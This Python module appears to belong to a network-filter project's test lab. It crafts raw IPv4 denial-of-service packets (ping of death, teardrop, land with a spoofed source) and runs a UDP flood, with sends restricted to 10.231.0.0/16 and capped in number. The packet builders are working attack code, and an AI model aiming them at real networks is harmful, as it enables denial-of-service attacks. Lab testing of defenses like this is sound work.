"""Crafted attack packets that real tools do not send: ping of death, teardrop, land.

Run inside the attacker's namespace (`ip netns exec P-attacker python -m vmshield.lab.craft ...`);
sends raw IPv4 (IP_HDRINCL) only to a 10.231.0.0/16 address, a bounded number of times.
"""

from __future__ import annotations

import argparse
import ipaddress
import os
import socket
import struct
import sys

from vmshield.filter.inject import checksum

LAB_NET = ipaddress.IPv4Network("10.231.0.0/16")


def ip_header(
    src: bytes, dst: bytes, proto: int, payload_len: int, ident: int, frag: int, mf: bool
) -> bytes:
    flags_off = (0x2000 if mf else 0) | (frag // 8)
    h = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + payload_len, ident, flags_off, 64, proto, 0, src, dst
    )
    return h[:10] + struct.pack("!H", checksum(h)) + h[12:]


def pingofdeath(src: bytes, dst: bytes, ident: int) -> list[bytes]:
    """ICMP echo fragments whose reassembled size exceeds 65 535 bytes."""
    icmp = struct.pack("!BBHHH", 8, 0, 0, ident, 1) + b"X" * 1472
    icmp = icmp[:2] + struct.pack("!H", checksum(icmp)) + icmp[4:]
    frags = [ip_header(src, dst, 1, len(icmp), ident, 0, True) + icmp]
    chunk = b"X" * 1480
    off = 1480
    while off + len(chunk) <= 65535 + 1480:
        last = off + len(chunk) > 65535 - 20
        frags.append(ip_header(src, dst, 1, len(chunk), ident, off, not last) + chunk)
        off += len(chunk)
        if last:
            break
    return frags


def teardrop(src: bytes, dst: bytes, ident: int) -> list[bytes]:
    """Two UDP fragments whose second overlaps into the first (the classic teardrop)."""
    udp = struct.pack("!HHHH", 31337, 53, 8 + 48, 0) + b"A" * 48
    first = ip_header(src, dst, 17, 32, ident, 0, True) + udp[:32]
    second = ip_header(src, dst, 17, 24, ident, 8, False) + udp[32:] + b"B" * 0
    return [first, second]


def land(dst: bytes, ident: int, port: int = 80) -> list[bytes]:
    """TCP SYN with source address and port equal to the destination's."""
    from vmshield.filter.inject import tcp_packet

    pkt = bytearray(tcp_packet(dst, dst, port, port, 1000 + ident, 0, 0x02, window=1024))
    struct.pack_into("!H", pkt, 4, ident)
    struct.pack_into("!H", pkt, 10, 0)
    struct.pack_into("!H", pkt, 10, checksum(bytes(pkt[:20])))
    return [bytes(pkt)]


def _udpflood(dst: str, count: int, seconds: float = 5.0) -> int:
    """`count` 18-byte datagrams to the discard port as fast as one process sends, within `seconds`."""
    import time

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    payload = b"vmshield-udpflood"
    sent = 0
    deadline = time.monotonic() + seconds
    try:
        while sent < count and time.monotonic() < deadline:
            for _ in range(min(500, count - sent)):
                try:
                    s.sendto(payload, (dst, 9))
                except OSError:  # ICMP unreachable reported back on the socket
                    pass
                sent += 1
    finally:
        s.close()
    print(f"sent {sent} datagrams")
    return 0


def main(argv: list[str] | None = None) -> int:
    ap = argparse.ArgumentParser(prog="python -m vmshield.lab.craft")
    ap.add_argument("kind", choices=("pingofdeath", "teardrop", "land", "udpflood"))
    ap.add_argument("--to", required=True)
    ap.add_argument("--from-address", required=True)
    ap.add_argument("--count", type=int, default=3)
    ap.add_argument("--lab", default="")
    args = ap.parse_args(argv)
    dst_a, src_a = ipaddress.IPv4Address(args.to), ipaddress.IPv4Address(args.from_address)
    if dst_a not in LAB_NET or src_a not in LAB_NET:
        print("refusing: crafted packets only go to lab addresses (10.231.0.0/16)", file=sys.stderr)
        return 2
    if args.kind == "udpflood":
        return _udpflood(str(dst_a), max(1, min(args.count, 50_000)))
    count = max(1, min(args.count, 20))
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    sent = 0
    try:
        for i in range(count):
            ident = (os.getpid() + i) & 0xFFFF
            if args.kind == "pingofdeath":
                pkts = pingofdeath(src_a.packed, dst_a.packed, ident)
            elif args.kind == "teardrop":
                pkts = teardrop(src_a.packed, dst_a.packed, ident)
            else:
                pkts = land(dst_a.packed, ident)
            for p in pkts:
                s.sendto(p, (str(dst_a), 0))
                sent += 1
    finally:
        s.close()
    print(f"sent {sent} packets")
    return 0


if __name__ == "__main__":
    sys.exit(main())
